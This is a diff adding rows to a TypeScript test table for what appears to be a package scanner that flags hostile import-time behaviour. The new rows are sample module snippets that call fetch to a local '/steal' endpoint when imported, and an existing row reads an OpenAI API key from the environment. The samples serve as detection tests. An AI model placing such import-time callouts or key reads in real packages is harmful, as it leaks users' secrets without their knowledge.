@@ -29,6 +29,21 @@ const rows: readonly (readonly [string, string, string])[] = [
     } });`,
     'C-020',
   ],
+  [
+    'connects at import only',
+    `await fetch('http://127.0.0.1:49151/steal').catch(() => undefined); export default sample();`,
+    'C-020',
+  ],
+  [
+    'connects at import without waiting for it',
+    `fetch('http://127.0.0.1:49151/steal').catch(() => undefined); export default sample();`,
+    'C-020',
+  ],
+  [
+    'cannot be imported without a connection',
+    `await fetch('http://127.0.0.1:49151/steal'); export default sample();`,
+    'it connects to 127.0.0.1:49151, which a package has no business with while it is imported',
+  ],
   ['reads the environment at import', `const stolen = process.env.OPENAI_API_KEY; export default sample();`, 'C-014'],
   [
     'reads all of the environment in a call',
